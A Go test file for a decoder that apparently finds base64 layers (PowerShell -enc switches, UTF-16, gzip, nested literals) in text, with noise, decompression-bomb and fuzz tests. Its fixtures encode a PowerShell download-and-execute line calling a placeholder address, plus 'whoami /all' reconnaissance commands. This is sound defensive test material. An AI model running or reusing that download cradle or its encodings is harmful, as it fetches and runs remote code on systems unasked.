package decode

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"
)

func std(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
func raw(b []byte) string { return base64.RawStdEncoding.EncodeToString(b) }

// le and be are UTF-16 without a byte order mark.
func le(s string) (out []byte) {
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

func be(s string) []byte {
	out := le(s)
	for i := 0; i+1 < len(out); i += 2 {
		out[i], out[i+1] = out[i+1], out[i]
	}
	return out
}

func zipped(s string) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	w.Write([]byte(s))
	w.Close()
	return out.Bytes()
}

// story tells what was found: one layer a line, indented under its parent, with where it stood.
func story(s string) string {
	layers, depth, out := Layers(s), map[int]int{-1: -1}, ""
	for i, l := range layers {
		depth[i] = depth[l.Parent] + 1
		cut := ""
		if l.Cut {
			cut = " cut"
		}
		out += fmt.Sprintf("%s%s %d-%d%s: %s\n", strings.Repeat("  ", depth[i]), l.Encoding, l.Start, l.End, cut, l.Text)
	}
	return strings.TrimSuffix(out, "\n")
}

const script = `iex (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a")`

func TestLayers(t *testing.T) {
	inner := `$a=[Convert]::FromBase64String("` + std([]byte("whoami /all")) + `")`
	for _, tc := range []struct{ name, in, want string }{
		{"-enc", "powershell.exe -nop -enc " + std(le(script)), "base64/utf-16le 25-205: " + script},
		{"the whole switch", "powershell -EncodedCommand " + std(le("whoami")), "base64/utf-16le 27-43: whoami"},
		{"one letter", "powershell -e " + std(le("dir")), "base64/utf-16le 14-22: dir"},
		{"-ec", "powershell -ec " + std(le("dir")), "base64/utf-16le 15-23: dir"},
		{"a slash", "powershell /ENCOD " + std(le("dir")), "base64/utf-16le 18-26: dir"},
		{"an en-dash", "powershell –enc " + std(le("dir")), "base64/utf-16le 18-26: dir"},
		{"a horizontal bar", "powershell ―enc " + std(le("dir")), "base64/utf-16le 18-26: dir"},
		{"quoted", `powershell -enc "` + std(le("dir")) + `"`, "base64/utf-16le 17-25: dir"},
		{"two blanks and a quote", `powershell -enc   '` + std(le("dir")) + `'`, "base64/utf-16le 19-27: dir"},
		{"without padding", "powershell -enc " + raw(le("whoami /a")), "base64/utf-16le 16-40: whoami /a"},
		{"UTF-8 after -enc", "powershell -enc " + std([]byte("whoami /all")), "base64/utf-8 16-32: whoami /all"},
		{"cyrillic", "powershell -enc " + std(le("привет")), "base64/utf-16le 16-32: привет"},
		{"beyond the first plane", "powershell -enc " + std(le("echo 'good 😀'")), "base64/utf-16le 16-56: echo 'good 😀'"},
		{"-ex is -ExecutionPolicy", "powershell -ex " + std(le("dir")), ""},
		{"cut by the source", "powershell -enc " + std(le(script))[:29], "base64/utf-16le 16-45 cut: iex (New-O"},
		{"cut amid a character", "powershell -enc " + std(le(script))[:26], "base64/utf-16le 16-42 cut: iex (New-"},

		{"a literal", `[Convert]::FromBase64String("` + std([]byte("whoami")) + `")`, "base64/utf-8 29-37: whoami"},
		{"a literal, spaced and in capitals", `FROMBASE64STRING( '` + std(le("dir")) + `' )`, "base64/utf-16le 19-27: dir"},
		{"a layer in a layer", "powershell -e " + std(le(inner)), "base64/utf-16le 14-150: " + inner + "\n  base64/utf-8 32-48: whoami /all"},
		{"gzip", `FromBase64String("` + std(zipped(script)) + `")`, fmt.Sprintf("base64/gzip/utf-8 18-%d: %s", 18+len(std(zipped(script))), script)},

		{"free UTF-8", "token=" + std([]byte("user:passw0rd123")) + ";", "base64/utf-8 6-30: user:passw0rd123"},
		{"free UTF-16LE", "x " + std(le("whoami /all")), "base64/utf-16le 2-34: whoami /all"},
		{"free UTF-16BE", "x " + std(be("whoami /all")), "base64/utf-16be 2-34: whoami /all"},
		{"a byte order mark", "x " + std(append([]byte{0xff, 0xfe}, le("whoami /all")...)), "base64/utf-16le 2-34: whoami /all"},
		{"a UTF-8 mark", "x " + std([]byte("\ufeffwhoami /all")), "base64/utf-8 2-22: whoami /all"},
		{"the URL alphabet", "id=" + base64.RawURLEncoding.EncodeToString([]byte("subjects?and>more~~")), "base64/utf-8 3-29: subjects?and>more~~"},
		{"in a path", "GET /api/" + std([]byte("user:passw0rd123")) + "/x", "base64/utf-8 9-33: user:passw0rd123"},
		{"wrapped", std([]byte(script))[:60] + "\r\n" + std([]byte(script))[60:], "base64/utf-8 0-94: " + script},
		{"two beside each other", std([]byte("first payload")) + " " + std([]byte("second payload")), "base64/utf-8 0-20: first payload\nbase64/utf-8 21-41: second payload"},
		{"umlauts", std([]byte("Größe überschritten")), "base64/utf-8 0-32: Größe überschritten"},
		{"a program", "x=" + std([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")), "base64/pe 2-22: "},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := story(tc.in); got != tc.want {
				t.Errorf("in %s\n got %s\nwant %s", tc.in, got, tc.want)
			}
		})
	}
}

// TestNoise holds that what is not base64 stays what it is.
func TestNoise(t *testing.T) {
	for _, s := range []string{
		"", "=", "====", "-enc", "-enc ", "powershell -enc =", "powershell -File build.ps1",
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"/usr/lib/x86_64-linux-gnu/libstdc++.so.6",
		"https://github.com/SwiftOnSecurity/sysmon-config/blob/master/sysmonconfig-export.xml",
		"CompatTelRunnerMicrosoftWindowsApplicationExperience",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"da39a3ee5e6b4b0d3255bfef95601890afd80709",
		"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
		"grep -e pattern123456 file",
		"cmd /e somethinglonglonglong",
		"Microsoft-Windows-PowerShell/Operational",
		"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
		"0123456789012345678901234567890123456789",
		"S-1-5-21-3623811015-3361044348-30300820-1013",
		"aVeryLongCamelCaseIdentifierThatSomebodyWrote",
		"--------------------------------------------",
		"////////////////////////////////////////////",
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
	} {
		if got := story(s); got != "" {
			t.Errorf("%s\n gives %q", s, got)
		}
	}
}

// TestBomb holds that a hostile text ends: nested as deep as it gets, and a gzip that unpacks to much.
func TestBomb(t *testing.T) {
	nested := "the innermost text of all"
	for range 2 * deepest {
		nested = std([]byte(nested))
	}
	if got := len(Layers(nested)); got != deepest {
		t.Errorf("%d layers deep, want %d", got, deepest)
	}
	many := strings.Repeat(std([]byte("one more payload"))+" ", 2*mostLayers)
	if got := len(Layers(many)); got != mostLayers {
		t.Errorf("%d layers, want %d", got, mostLayers)
	}
	big := Layers(std(zipped(strings.Repeat("x", 2*largestUnpacked))))
	if len(big) != 1 || len(big[0].Text) != largestUnpacked || !big[0].Cut {
		t.Errorf("a gzip of %d bytes gives %d layers", 2*largestUnpacked, len(big))
	}
}

func FuzzLayers(f *testing.F) {
	f.Add("powershell -enc " + std(le(script)))
	f.Add(`FromBase64String("` + std(zipped(script)) + `")`)
	f.Add(std(be(script)) + "\r\n" + std([]byte("MZ\x90\x00")))
	f.Add("-e \xff\xfe==/_-+")
	f.Fuzz(func(t *testing.T, s string) {
		layers := Layers(s)
		for i, l := range layers {
			text := s
			if l.Parent >= i || l.Parent < -1 {
				t.Fatalf("layer %d has parent %d", i, l.Parent)
			}
			if l.Parent >= 0 {
				text = layers[l.Parent].Text
			}
			if l.Start < 0 || l.Start >= l.End || l.End > len(text) {
				t.Fatalf("layer %d is at %d-%d of %d bytes", i, l.Start, l.End, len(text))
			}
			if again, ok := decoded(text, run{start: l.Start, end: l.End, hint: literal}); ok && again.SHA256 == "" {
				t.Fatal("no hash")
			}
		}
	})
}
